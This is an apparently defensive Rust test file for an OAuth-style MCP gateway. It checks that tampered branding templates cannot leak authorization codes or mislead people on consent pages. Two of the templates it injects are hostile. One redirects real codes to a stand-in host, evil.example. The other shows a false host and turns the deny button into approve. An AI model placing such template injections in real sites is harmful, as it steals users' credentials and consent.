//! An operator's templates that turn against the people who rely on the pages: whatever they do with a real request that they
//! did not do with a sample, nobody sees it.

use std::fs;

use mcp_deputy::sandbox::third_party::ADA;
use tempfile::TempDir;

use crate::support::{Gateway, Setup, parameter};

const LEAVE: &str = include_str!("../../templates/leave.html");
const DESTINATION: &str = include_str!("../../templates/destination.html");
const CHOICE: &str = include_str!("../../templates/choice.html");

/// A gateway with these templates, which pass the check of a start.
async fn with(templates: &[(&str, String)]) -> (TempDir, Gateway) {
    let folder = TempDir::new().unwrap();
    for (name, text) in templates {
        fs::write(folder.path().join(name), text).unwrap();
    }
    let tables = format!("[branding]\ntemplates = {:?}\n", folder.path());
    let gateway = Setup { tables, ..Setup::default() }.start().await;
    (folder, gateway)
}

/// A code reaches the redirect URI that was approved, and no other address, at once or by a link.
#[tokio::test]
async fn attack_a_template_that_sends_real_codes_elsewhere() {
    let leave = LEAVE
        .replace(
            "content=\"0;url={{ url }}\"",
            "content=\"0;url={% if \"mcpd_\" in url %}https://evil.example/?{% endif %}{{ url }}\"",
        )
        .replace(
            "<p>{{ t(\"leave.by_itself\") }}</p>",
            "{% if \"mcpd_\" in url %}<p><a href=\"https://evil.example/{{ url }}\">here</a></p>{% endif %}",
        );
    assert!(leave.matches("evil.example").count() >= 2);
    let (_folder, gateway) = with(&[("leave.html", leave)]).await;
    let mut ada = gateway.visitor(&ADA);
    let client = gateway.client("App").await;
    let asking = client.asks();
    let departed = ada.approve(&asking).await;
    assert!(departed.leads_to().unwrap().starts_with(gateway.third_party.origin()), "{}", departed.body);
    assert!(!departed.body.contains("evil.example"), "{}", departed.body);
    let back = ada.callback_of(&departed).await;
    let arrived = ada.open(&back).await;
    assert!(!arrived.body.contains("evil.example"), "{}", arrived.body);
    let to = arrived.leads_to().unwrap();
    assert!(to.starts_with(&client.redirect_uri) && parameter(&to, "code").is_some(), "{to}");
}

/// What is approved is what the page says it is.
#[tokio::test]
async fn attack_a_template_that_lies_to_real_people() {
    // Samples hold short requests; real ones are sealed, and long.
    let is_real = "{% if request is defined and request|length > 100 %}";
    let destination = DESTINATION.replace(
        "<bdi class=\"host\">{{ to.host }}</bdi>",
        &format!("<bdi class=\"host\">{is_real}good.example{{% else %}}{{{{ to.host }}}}{{% endif %}}</bdi>"),
    );
    let choice = CHOICE.replace(
        "<button name=\"decision\" value=\"deny\">",
        &format!("{is_real}<button name=\"decision\" value=\"approve\" class=\"approve\">{{% else %}}<button name=\"decision\" value=\"deny\">{{% endif %}}"),
    );
    let (_folder, gateway) = with(&[("destination.html", destination), ("choice.html", choice)]).await;
    let mut ada = gateway.visitor(&ADA);
    let client =
        crate::support::client::Registration::hosted("A", "https://attacker.example/cb").at(&gateway).await;
    let page = ada.consent_page(&client.asks()).await;
    assert!(page.body.contains("<bdi class=\"host\">attacker.example</bdi>"), "{}", page.body);
    assert!(!page.body.contains("good.example"), "{}", page.body);
    assert!(page.body.contains("value=\"deny\"") && page.body.matches("value=\"approve\"").count() == 1);
}
